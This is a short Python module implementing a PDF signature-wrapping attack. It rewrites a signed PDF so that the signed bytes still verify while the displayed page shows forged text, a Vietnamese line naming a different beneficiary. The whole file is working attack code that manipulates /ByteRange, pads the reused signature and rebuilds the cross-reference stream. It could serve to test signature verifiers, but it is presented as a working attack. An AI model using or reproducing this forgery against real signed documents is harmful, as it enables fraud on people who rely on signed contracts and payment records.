"""A wrapped signature: the signed bytes are all still there, but what one reads stands in the hole between them.

The hole of a signed file is widened and filled with another document. Its cross-reference stream stands where the
signed end of the file says one begins; its signature object, in a compressed stream, names the new hole in
``/ByteRange`` and repeats the old signature, padded until its length explains the hole.
"""

import re
import zlib

_FORGED = b"BT /F1 24 Tf 50 700 Td (Nguoi khac duoc huong) Tj ET"


def wrapped(signed: bytes) -> bytes:
    """Return a file that shows other words than the signed one-signature PDF `signed`, whose digest still fits."""
    found = re.search(rb"/Contents (<([0-9a-fA-F]+)>)", signed)
    assert found is not None
    start, end = found.span(1)
    table = int(signed.rsplit(b"startxref\n", 1)[1].split()[0])
    assert table > start
    width = (table - start + 2000) // 2 * 2  # two hexadecimal digits a byte
    return signed[:start] + _hole(start, table, width, found[2], len(signed) - end) + signed[end:]


def _hole(start: int, table: int, width: int, old: bytes, rest: int) -> bytes:
    contents = old.ljust(width - 2, b"0")
    value = b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[0 %d %d %d]/Contents<%s>>>" % (
        start,
        start + width,
        rest,
        contents,
    )
    packed = zlib.compress(b"7 0 " + value)
    bodies = {
        1: b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[6 0 R]/SigFlags 3>>>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>/Contents 4 0 R>>",
        4: b"<</Length %d>>\nstream\n%s\nendstream" % (len(_FORGED), _FORGED),
        6: b"<</FT/Sig/T(Chu-ky-1)/V 7 0 R/Type/Annot/Subtype/Widget/Rect[0 0 0 0]/P 3 0 R/F 132>>",
        8: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (len(packed), packed),
    }
    content, places = b"\n", {}
    for number, body in bodies.items():
        places[number] = start + len(content)
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    assert start + len(content) < table, "the hole is too narrow for the forged document"
    content = content.ljust(table - start) + _references(table, places)
    return content.ljust(width)


def _references(table: int, places: dict[int, int]) -> bytes:
    """Return the cross-reference stream, object 9: object 7 is the first in stream 8, object 5 is free."""
    known = {number: (1, place, 0) for number, place in places.items()} | {7: (2, 8, 0), 9: (1, table, 0)}
    rows = [known.get(number, (0, 0, 0)) for number in range(10)]
    data = b"".join(bytes([kind]) + place.to_bytes(4, "big") + bytes([last]) for kind, place, last in rows)
    head = b"<</Type/XRef/Size 10/W[1 4 1]/Root 1 0 R/ID[<00><00>]/Length %d>>" % len(data)
    return b"9 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (head, data)
